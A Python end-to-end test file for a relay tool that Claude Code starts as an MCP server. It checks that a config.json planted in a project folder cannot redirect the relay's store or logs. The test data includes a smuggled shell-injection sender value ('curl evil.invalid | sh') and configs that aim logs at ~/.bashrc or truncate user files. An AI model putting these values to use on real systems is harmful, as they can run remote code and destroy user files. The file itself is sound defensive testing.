"""A ``config.json`` in the folder an agent starts in never steers the relay (docs/security.md).

Claude Code starts ``relay-stdio`` in the user's project, and people run ``relay`` there. Each attack
shape below is a real ``config.json`` in that folder; a real ``relay-stdio`` (driven by the official MCP
client, introducing itself as Claude Code) and a real ``relay post`` started there must work as if the
file were not there: the message lands in the per-user store under its own sender, nothing is created in
the project, and no file of the user's is written, truncated or rotated.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from mcp import Client, StdioServerParameters
from mcp.types import Implementation

from tests.e2e.conftest import child_env, relay_cli, relay_stdio_command

pytestmark = [pytest.mark.e2e]

BASHRC = "# ~/.bashrc: the user's own\nexport EDITOR=vim\n"
NOTES = "notes the user keeps\n" * 20
HOSTILE_SENDER = "x; curl evil.invalid | sh #"

ATTACKS = {
    # A project's own config.json, not meant for the relay; as the relay's it made relay-stdio exit 2.
    "foreign-project-config": {"name": "my-app", "port": "3000", "version": "1.0.0"},
    # Splits the store into the repository: the agents no longer meet.
    "store-in-the-repository": {"data_dir": "./.relay-data", "sender": HOSTILE_SENDER},
    # Appends log lines with a sender the file chose to a shell start-up file.
    "log-into-bashrc": {
        "log_path": "~/.bashrc",
        "channel_log_path": "~/.bashrc",
        "sender": HOSTILE_SENDER,
    },
    # Rotation with no backups truncates whatever file log_path names.
    "truncate-a-user-file": {
        "log_path": "~/notes.txt",
        "log_max_bytes": 1,
        "log_backup_count": 0,
        "channel_log_path": "~/notes.txt",
        "channel_log_max_bytes": 1,
        "channel_log_backup_count": 0,
    },
}


def home_with_files(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text(BASHRC)
    (home / "notes.txt").write_text(NOTES)
    return home


def project_with(tmp_path: Path, config: dict[str, object]) -> Path:
    project = tmp_path / "project"
    project.mkdir()
    (project / "config.json").write_text(json.dumps(config))
    return project


def stored(home: Path) -> list[dict[str, object]]:
    channel = home / ".local" / "share" / "claude-codex-relay" / "channels" / "proj-x.jsonl"
    return [json.loads(line) for line in channel.read_text().splitlines()]


def assert_untouched(home: Path, project: Path) -> None:
    assert (home / ".bashrc").read_text() == BASHRC
    assert (home / "notes.txt").read_text() == NOTES
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", ".local", "notes.txt"]
    assert [p.name for p in project.iterdir()] == ["config.json"]


async def post_through_relay_stdio(home: Path, project: Path) -> dict[str, object]:
    command = relay_stdio_command()
    server = StdioServerParameters(
        command=command[0], args=command[1:], env=child_env(home), cwd=str(project)
    )
    async with Client(server, client_info=Implementation(name="claude-code", version="2.1")) as client:
        posted = await client.call_tool("post_message", {"target": "proj-x", "text": "packet"})
        assert not posted.is_error, posted.content
        fetched = await client.call_tool("fetch_messages", {"target": "proj-x", "since_id": 0})
        message: dict[str, object] = posted.structured_content["message"]
        assert fetched.structured_content["messages"] == [message]
        return message


@pytest.mark.anyio
@pytest.mark.parametrize("attack", ATTACKS)
async def test_relay_stdio_started_in_a_project_ignores_its_config_json(tmp_path: Path, attack: str) -> None:
    home = home_with_files(tmp_path)
    project = project_with(tmp_path, ATTACKS[attack])
    message = await post_through_relay_stdio(home, project)
    assert_untouched(home, project)
    assert (message["id"], message["sender"], message["text"]) == (1, "claude", "packet")
    assert stored(home) == [message]


@pytest.mark.parametrize("attack", ATTACKS)
def test_relay_cli_started_in_a_project_ignores_its_config_json(tmp_path: Path, attack: str) -> None:
    home = home_with_files(tmp_path)
    project = project_with(tmp_path, ATTACKS[attack])
    env = child_env(home, USER="ada", LOGNAME="ada")
    posted = subprocess.run(
        [*relay_cli(), "post", "proj-x", "a note", "--json"],
        env=env, cwd=project, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert posted.returncode == 0, posted.stderr
    assert_untouched(home, project)
    record = json.loads(posted.stdout)
    assert (record["id"], record["sender"], record["text"]) == (1, "ada", "a note")
    assert stored(home) == [record]
    shown = subprocess.run(
        [*relay_cli(), "config", "--json"], env=env, cwd=project, capture_output=True, text=True, timeout=60
    )
    assert shown.returncode == 0, shown.stderr
    config = json.loads(shown.stdout)
    assert config["config_file"]["value"] == "" and config["port"] == {"value": "8010", "source": "default"}
    # For someone upgrading who kept the relay's config there: where to put it instead.
    assert f"relay: note: {project / 'config.json'} is not read" in shown.stderr
    assert "--config" in shown.stderr and ".config/claude-codex-relay/config.json" in shown.stderr
    assert_untouched(home, project)


def test_the_per_user_config_file_still_applies_in_a_project_with_a_config_json(tmp_path: Path) -> None:
    """Before the fix the project's file hid the user's own: its data_dir and sender were not used."""
    home = home_with_files(tmp_path)
    project = project_with(tmp_path, ATTACKS["foreign-project-config"])
    user_config = home / ".config" / "claude-codex-relay" / "config.json"
    user_config.parent.mkdir(parents=True)
    user_config.write_text(json.dumps({"data_dir": "shared-store", "sender": "ada"}))
    done = subprocess.run(
        [*relay_cli(), "post", "proj-x", "hello", "--json"],
        env=child_env(home), cwd=project, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["sender"] == "ada"
    channel = user_config.parent / "shared-store" / "channels" / "proj-x.jsonl"
    assert [json.loads(line)["text"] for line in channel.read_text().splitlines()] == ["hello"]
    assert [p.name for p in project.iterdir()] == ["config.json"]
